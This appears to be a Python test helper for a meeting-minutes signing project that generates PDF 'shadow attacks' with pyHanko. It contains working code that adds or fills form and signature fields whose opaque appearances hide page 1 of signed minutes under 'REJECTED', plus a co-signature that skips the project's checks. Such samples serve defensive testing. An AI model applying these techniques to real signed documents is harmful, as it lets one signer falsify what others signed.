"""Shadow attacks on signed minutes, made for real with pyHanko's incremental writer: what a
hostile co-signer (or anyone handling the file between two signers) adds before signing."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from typing import Any

from meetingroom.domain.signatures import STAMP_BOXES
from meetingroom.signing._signers import open_signer
from meetingroom.signing.sources import Source

OVER_PAGE_ONE = (60, 640, 540, 800)
"""Where the attacks paint: over the title and first paragraphs of page 1."""


def name(value: str) -> Any:
    from pyhanko.pdf_utils import generic

    return generic.NameObject(value)


def update(data: bytes, change: Callable[[Any], None]) -> bytes:
    """One incremental update made with pyHanko's writer, as an attacker would."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(BytesIO(data), strict=False)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def opaque(w: Any, text: bytes = b"REJECTED") -> Any:
    """A white box with big black text: the appearance that hides page 1."""
    from pyhanko.pdf_utils import generic

    x0, y0, x1, y1 = OVER_PAGE_ONE
    font = generic.DictionaryObject({
        name("/Type"): name("/Font"), name("/Subtype"): name("/Type1"),
        name("/BaseFont"): name("/Helvetica")})
    return w.add_object(generic.StreamObject(
        {name("/Type"): name("/XObject"), name("/Subtype"): name("/Form"),
         name("/BBox"): generic.ArrayObject(
             [generic.FloatObject(v) for v in (0, 0, x1 - x0, y1 - y0)]),
         name("/Resources"): generic.DictionaryObject({
             name("/Font"): generic.DictionaryObject({name("/Helv"): font})})},
        stream_data=b"1 1 1 rg 0 0 %d %d re f 0 0 0 rg BT /Helv 60 Tf 20 50 Td (%s) Tj ET"
                    % (x1 - x0, y1 - y0, text)))


def _rect() -> Any:
    from pyhanko.pdf_utils import generic

    return generic.ArrayObject([generic.FloatObject(v) for v in OVER_PAGE_ONE])


def add_text_field(data: bytes) -> bytes:
    """An empty text field on page 1 (a form the secretary's file happened to carry)."""
    from pyhanko.pdf_utils import generic

    def change(w: Any) -> None:
        page_ref = w.root["/Pages"]["/Kids"][0]
        page = page_ref.get_object()
        field = w.add_object(generic.DictionaryObject({
            name("/Type"): name("/Annot"), name("/Subtype"): name("/Widget"),
            name("/FT"): name("/Tx"), name("/T"): generic.TextStringObject("Remark"),
            name("/Rect"): _rect(), name("/F"): generic.NumberObject(4),
            name("/P"): page_ref,
            name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g")}))
        annots = page.get("/Annots")
        page["/Annots"] = generic.ArrayObject([*(annots or []), field])
        w.update_container(page)
        if "/AcroForm" in w.root:
            form = w.root["/AcroForm"]
            form["/Fields"] = generic.ArrayObject([*form["/Fields"], field])
            w.update_container(form)
        else:
            w.root["/AcroForm"] = w.add_object(generic.DictionaryObject(
                {name("/Fields"): generic.ArrayObject([field]),
                 name("/SigFlags"): generic.NumberObject(3)}))
            w.update_root()

    return update(data, change)


def fill_text_field(data: bytes, text: str = "REJECTED") -> bytes:
    """Attack (b): the existing text field filled, with an opaque appearance over page 1."""
    from pyhanko.pdf_utils import generic

    def change(w: Any) -> None:
        for ref in w.root["/AcroForm"]["/Fields"]:
            field = ref.get_object()
            if field.get("/T") == "Remark":
                field["/V"] = generic.TextStringObject(text)
                field["/AP"] = generic.DictionaryObject({name("/N"): opaque(w)})
                w.update_container(field)

    return update(data, change)


def add_overlay_signature_field(data: bytes) -> bytes:
    """Attack (a): an empty signature field on page 1 whose appearance covers its text."""
    from pyhanko.pdf_utils import generic
    from pyhanko.sign import fields

    def change(w: Any) -> None:
        fields.append_signature_field(
            w, fields.SigFieldSpec("Overlay", on_page=0, box=OVER_PAGE_ONE))
        for field_name, _, ref in fields.enumerate_sig_fields(w, filled_status=False):
            if field_name == "Overlay":
                field = ref.get_object()
                field["/AP"] = generic.DictionaryObject({name("/N"): opaque(w)})
                w.update_container(field)

    return update(data, change)


def plain_cosign(data: bytes, source: Source, *, subfilter: str = "pades") -> bytes:
    """A co-signature made with plain pyHanko in the next stamp place: PAdES (or the old
    adbe.pkcs7.detached), none of our signer's checks."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign import fields, signers

    existing = len(PdfFileReader(BytesIO(data), strict=False).embedded_signatures)
    field = f"Signature{existing + 1}"
    box = tuple(round(v) for v in STAMP_BOXES[existing])
    with open_signer(source) as signer:
        writer = IncrementalPdfFileWriter(BytesIO(data), strict=False)
        meta = signers.PdfSignatureMetadata(
            field_name=field,
            subfilter=(fields.SigSeedSubFilter.PADES if subfilter == "pades"
                       else fields.SigSeedSubFilter.ADOBE_PKCS7_DETACHED))
        spec = fields.SigFieldSpec(sig_field_name=field, on_page=-1, box=box)
        out = BytesIO()
        signers.PdfSigner(meta, signer, new_field_spec=spec).sign_pdf(writer, output=out)
    return out.getvalue()
